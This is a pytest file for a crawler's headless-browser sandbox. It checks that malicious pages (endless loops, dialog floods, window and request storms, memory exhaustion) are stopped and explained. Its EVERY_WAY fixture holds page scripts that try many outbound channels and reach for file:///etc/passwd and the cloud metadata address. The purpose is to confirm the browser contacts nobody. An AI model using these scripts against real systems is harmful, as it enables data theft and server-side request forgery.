"""Pages that mean harm: drawing ends in time, says how, and the next page is drawn as if nothing had been."""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from crawler.fetching.answer import Answer
from crawler.rendering.browsers import find_browser
from crawler.rendering.chromium import Chromium
from crawler.rendering.drawing import draw
from crawler.rendering.limits import MEGABYTE, Ask, Limits
from crawler.rendering.picture import Picture, Source
from crawler.rendering.supply import Shelf, Supply
from crawler.snapshot.rendering import Drawn
from tests.crawler.rendering.conftest import PAGE, QUICK, SHORT, Desk, Site

GROWTH = Limits(own=60.0, elements=20_000, html=2 * MEGABYTE)


@pytest.fixture(autouse=True)
def next_page_is_drawn(desk: Desk) -> Iterator[None]:
    yield
    assert desk.draw("<p id=p></p><script>p.innerHTML='fine'</script>").drawn is Drawn.WHOLE


@pytest.mark.parametrize(
    "html",
    [
        "<p>x</p><script>while(true);</script>",
        "<script>setTimeout(()=>{for(;;);},200)</script>",
    ],
    ids=["loop", "late-loop"],
)
def test_a_page_that_hangs_is_given_up(desk: Desk, html: str) -> None:
    picture = desk.draw(html, site := Site(), SHORT)
    assert (picture.drawn, picture.html) == (Drawn.HANG, "")
    assert site.urls == []


@pytest.mark.parametrize(
    ("html", "end"),
    [
        ("<script>while(true) alert(1)</script>", Drawn.DIALOGS),
        ("<script>while(true) confirm('?') || prompt('?')</script>", Drawn.DIALOGS),
        ("<script>location='/elsewhere/'</script>", Drawn.NAVIGATED),
        ("<script>setInterval(()=>location.reload(),10)</script>", Drawn.NAVIGATED),
        ("<form action=/send method=post></form><script>document.forms[0].submit()</script>", Drawn.NAVIGATED),
        ("<meta http-equiv=refresh content='0;url=/x'>", Drawn.NAVIGATED),
    ],
    ids=["alerts", "questions", "away", "reload", "form", "refresh"],
)  # fmt: skip
def test_a_page_that_cannot_be_drawn_says_why(desk: Desk, html: str, end: Drawn) -> None:
    picture = desk.draw(html, site := Site())
    assert picture.drawn is end
    assert picture.html == ""
    assert picture.seconds < QUICK.total
    assert site.urls == []


class DeafChromium(Chromium):
    """A browser on a machine so busy that nobody learns what its pages hold."""

    async def memory(self) -> int:
        return await asyncio.get_running_loop().create_future()


def test_a_page_that_leaves_is_not_a_crash_however_busy_the_machine(desk: Desk) -> None:
    html = "<form action=/send method=post></form><script>document.forms[0].submit()</script>"

    async def work() -> Picture:
        browser = await DeafChromium.launch(find_browser(os.environ))
        try:
            source = Source(PAGE, html.encode(), "utf-8")
            supply = Supply(source, Site(), lambda _: True, QUICK, Shelf())
            return await draw(browser, source, supply, QUICK)
        finally:
            await browser.close()

    picture = desk.run(work())
    assert (picture.drawn, picture.location) == (Drawn.NAVIGATED, "http://www.x.gov.cn/send")


def test_endless_growth_step_by_step(desk: Desk) -> None:
    html = (
        "<script>setInterval(()=>{for(let i=0;i<5000;i++)"
        "document.body.appendChild(document.createElement('p'))},1)</script>"
    )
    assert desk.draw(html, limits=GROWTH).drawn is Drawn.TOO_LARGE


def test_endless_growth_without_a_pause(desk: Desk) -> None:
    html = (
        "<script>for(;;)document.documentElement.appendChild(document.createElement('p'))</script>"
    )
    picture = desk.draw(html, limits=replace(GROWTH, own=3.0))
    assert picture.drawn in {Drawn.HANG, Drawn.MEMORY, Drawn.CRASH}


def test_a_text_that_is_too_long(desk: Desk) -> None:
    html = "<p id=p></p><script>p.textContent='文'.repeat(3e6)</script>"
    picture = desk.draw(html, limits=GROWTH)
    assert (picture.drawn, picture.html) == (Drawn.TOO_LARGE, "")


def test_an_allocation_that_the_engine_does_not_bear(desk: Desk) -> None:
    html = "<script>let a=[];for(;;)a.push(new Array(1e6).fill(Math.random()))</script>"
    assert desk.draw(html, limits=Limits(own=60.0)).drawn in {Drawn.CRASH, Drawn.MEMORY}


@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="memory is watched on Linux")
def test_memory_beside_the_engines(desk: Desk) -> None:
    html = "<script>let a=[];setInterval(()=>{let b=new Uint8Array(5e7);b.fill(1);a.push(b)},10)</script>"
    limits = Limits(own=60.0, memory=400 * MEGABYTE)
    assert desk.draw(html, limits=limits).drawn in {Drawn.MEMORY, Drawn.CRASH}


@pytest.mark.parametrize(
    "script",
    [
        "for(let i=0;i<300;i++)window.open('/p'+i)",
        "for(let i=0;i<300;i++)window.open('about:blank')",
        """const a=document.createElement('a'); a.href='/p'; a.target='_blank'; document.body.append(a);
           for(let i=0;i<300;i++) a.click()""",
    ],
)
def test_a_storm_of_windows_opens_none(desk: Desk, script: str) -> None:
    picture = desk.draw(f"<body><p>正文</p><script>{script}</script>", site := Site())
    assert picture.drawn in {Drawn.WHOLE, Drawn.PARTLY}
    assert "<p>正文</p>" in picture.html
    assert site.urls == []


def test_a_storm_of_requests_is_cut_off(desk: Desk) -> None:
    html = "<p>x</p><script>for(let i=0;i<500;i++)fetch('/d'+i).catch(()=>0)</script>"
    site = Site({f"/d{n}": ("text/plain", "x") for n in range(500)})
    picture = desk.draw(html, site, replace(QUICK, requests=30))
    assert len(site.urls) == 30
    assert picture.drawn is Drawn.PARTLY
    assert "470 requests without answer" in picture.detail


def test_answers_that_are_too_much_together(desk: Desk) -> None:
    html = "<p>x</p><script>for(let i=0;i<9;i++)fetch('/d'+i).catch(()=>0)</script>"
    site = Site({f"/d{n}": ("text/plain", "x" * 100_000) for n in range(9)})
    picture = desk.draw(html, site, replace(QUICK, received=250_000))
    assert "7 requests without answer" in picture.detail


def test_what_the_page_sends_is_limited_to_its_own_site_and_to_what_lists_need(desk: Desk) -> None:
    html = """<script>
      fetch('http://other.example/', {method:'POST', body:'a'}).catch(()=>0);
      fetch('/p', {method:'PUT', body:'a'}).catch(()=>0);
      fetch('/d', {method:'DELETE'}).catch(()=>0);
      fetch('/big', {method:'POST', body:'x'.repeat(1e6)}).catch(()=>0);
      fetch('/file', {method:'POST', body:new FormData()}).catch(()=>0);
      navigator.sendBeacon('/beacon', 'a');
      document.cookie='session=1'; fetch('/get', {headers:{'X-Secret':'1', 'Authorization':'b'}});
    </script>"""
    desk.draw(html, site := Site({"/get": ("text/plain", "x")}))
    (ask,) = site.asked
    assert ask.url == "http://www.x.gov.cn/get"
    assert {name for name, _ in ask.headers} <= {"accept", "content-type", "x-requested-with"}


def test_nothing_is_downloaded_and_nothing_permitted(desk: Desk) -> None:
    before = set(Path.cwd().iterdir())
    html = """<a id=a download=x.txt href="data:text/plain,x">x</a><p id=p></p><p id=n></p><script>
      a.click(); const b=document.createElement('a'); b.download='y.txt';
      b.href=URL.createObjectURL(new Blob(['y'.repeat(1e6)])); b.click();
      navigator.permissions.query({name:'geolocation'}).then(s=>p.innerHTML=s.state);
      n.innerHTML = Notification.permission;
    </script>"""
    picture = desk.draw(html)
    assert '<p id="n">granted' not in picture.html
    assert '<p id="p">granted' not in picture.html
    assert set(Path.cwd().iterdir()) == before


@dataclass
class Ear:
    """Hears whether anybody knocks at a port of this machine, by TCP or UDP."""

    port: int = 0
    heard: list[str] = field(default_factory=list)


@pytest.fixture
def ear() -> Iterator[Ear]:
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ear = Ear(tcp.getsockname()[1])
    udp.bind(("127.0.0.1", ear.port))

    def listen(sock: socket.socket, name: str) -> None:
        with contextlib.suppress(OSError):
            while True:
                if name == "tcp":
                    sock.accept()[0].close()
                else:
                    sock.recvfrom(100)
                ear.heard.append(name)

    threads = [threading.Thread(target=listen, args=(s, n)) for s, n in ((tcp, "tcp"), (udp, "udp"))]  # fmt: skip
    for thread in threads:
        thread.start()
    yield ear
    for sock in (tcp, udp):
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_RDWR)
        sock.close()
    for thread in threads:
        thread.join()


EVERY_WAY = """<!DOCTYPE html><html><head>
<link rel=preconnect href="//HOST/"><link rel=dns-prefetch href="//HOST/"><link rel=prefetch href="//HOST/">
<link rel=preload as=font href="//HOST/f"><link rel=manifest href="//HOST/m"><link rel=icon href="//HOST/i">
<link rel=modulepreload href="//HOST/mp"><link rel=stylesheet href="//HOST/s.css"><style>@import "//HOST/i.css";
body{background:url(//HOST/b.png)} @font-face{font-family:x;src:url(//HOST/x.woff)}</style>
<script type=speculationrules>{"prerender":[{"urls":["http://HOST/pre"]}],"prefetch":[{"urls":["http://HOST/pf"]}]}</script>
</head><body style="font-family:x">x<img src="//HOST/a"><img srcset="//HOST/a2 2x"><video src="//HOST/v" autoplay></video>
<audio src="//HOST/au" autoplay></audio><object data="//HOST/o"></object><embed src="//HOST/e"><iframe src="//HOST/f"></iframe>
<svg><image href="//HOST/svg"/></svg><script src="//HOST/j.js"></script><p id=done></p><script>
const H='HOST', tries=[
 ()=>fetch('http://'+H+'/'), ()=>fetch('http://'+H+'/',{mode:'no-cors'}), ()=>fetch('http://'+H+'/',{keepalive:true}),
 ()=>{const x=new XMLHttpRequest();x.open('GET','http://'+H+'/x');x.send()},
 ()=>new WebSocket('ws://'+H+'/'), ()=>new EventSource('http://'+H+'/es'), ()=>navigator.sendBeacon('http://'+H+'/bc','x'),
 ()=>new Worker(URL.createObjectURL(new Blob(["fetch('http://"+H+"/w');new WebSocket('ws://"+H+"/');importScripts('http://"+H+"/i.js')"]))),
 ()=>new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://"+H+"/sw')"]))),
 ()=>navigator.serviceWorker.register('/sw.js'), ()=>import('http://'+H+'/mod.js'),
 ()=>{const p=new RTCPeerConnection({iceServers:[{urls:'stun:'+H},{urls:'turn:'+H+'?transport=tcp',username:'a',credential:'b'}]});
      p.createDataChannel('a');p.createOffer().then(o=>p.setLocalDescription(o))},
 ()=>new WebTransport('https://'+H+'/'), ()=>new Image().src='http://'+H+'/img', ()=>window.open('http://'+H+'/open'),
 ()=>navigator.geolocation.getCurrentPosition(()=>0), ()=>{const f=document.createElement('iframe');
      f.srcdoc="<img src=http://"+H+"/sd><script>fetch('http://"+H+"/sdf')</"+"script>";document.body.append(f)},
 ()=>{const f=document.createElement('iframe');document.body.append(f);new f.contentWindow.WebSocket('ws://'+H+'/');
      f.contentWindow.fetch('http://'+H+'/cw');
      const p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:'stun:'+H}]});p.createDataChannel('a');
      p.createOffer().then(o=>p.setLocalDescription(o))},
 ()=>CSS.paintWorklet&&CSS.paintWorklet.addModule('http://'+H+'/pw.js'), ()=>{const a=document.createElement('a');
      a.href='http://'+H+'/';a.ping='http://'+H+'/ping';a.target='_blank';document.body.append(a);a.click()},
 ()=>fetch('file:///etc/passwd'), ()=>{const f=document.createElement('iframe');f.src='file:///etc/passwd';document.body.append(f)},
 ()=>fetch('http://169.254.169.254/latest/meta-data/'), ()=>fetch('http://[::1]:'+H.split(':')[1]+'/'),
 ()=>fetch('http://localhost:'+H.split(':')[1]+'/'), ()=>fetch('ftp://'+H+'/'), ()=>fetch('chrome://version'),
];
for (const t of tries) { try { Promise.resolve(t()).catch(()=>0) } catch (e) {} }
setTimeout(()=>done.innerHTML='all tried', 1500)
</script></body></html>"""


def test_the_browser_itself_talks_to_nobody(desk: Desk, ear: Ear) -> None:
    html = EVERY_WAY.replace("HOST", f"127.0.0.1:{ear.port}")
    picture = desk.draw(html, site := Site(), Limits(own=40.0, quiet=4.0))
    assert picture.drawn in {Drawn.WHOLE, Drawn.PARTLY}
    assert "all tried" in picture.html
    # What it asked us for, our guard refuses; nothing went round us.
    assert any(f"127.0.0.1:{ear.port}" in url for url in site.urls)
    assert all(url.startswith("http://") for url in site.urls)
    assert ear.heard == []


def test_the_second_wall_holds_by_itself(desk: Desk, ear: Ear) -> None:
    """What nobody answers for the page goes nowhere either: no name, no address, no way out."""
    desk.draw("<p>x</p>")  # or else there is no browser yet

    async def work() -> list[str]:
        assert desk.browser is not None
        context = await desk.browser.context()
        page = await context.new_page()
        page.set_default_timeout(60_000)
        ends = []
        for url in (f"http://127.0.0.1:{ear.port}/", f"http://localhost:{ear.port}/"):
            try:
                await page.goto(url)
                ends.append("answered")
            except Exception as error:  # noqa: BLE001 - Playwright's own
                ends.append(str(error))
        await context.close()
        return ends

    ends = desk.run(work())
    assert all("net::ERR_" in end for end in ends), ends
    assert ear.heard == []


@dataclass
class Killing(Site):
    """Kills the browser as soon as the page asks for something."""

    pids: list[int] = field(default_factory=list)

    async def __call__(self, ask: Ask) -> Answer:
        for pid in self.pids:
            os.kill(pid, signal.SIGKILL)
        return await super().__call__(ask)


def test_a_browser_that_dies_is_told_from_a_page_that_crashes(desk: Desk) -> None:
    desk.draw("<p>x</p>")
    assert desk.browser is not None
    before = desk.launched
    site = Killing(pids=desk.run(desk.browser.pids("browser")))
    picture = desk.draw("<script>fetch('/d')</script>", site)
    assert site.urls != []
    assert picture.drawn is Drawn.BROWSER
    assert desk.draw("<p>x</p>").drawn is Drawn.WHOLE
    assert desk.launched == before + 1
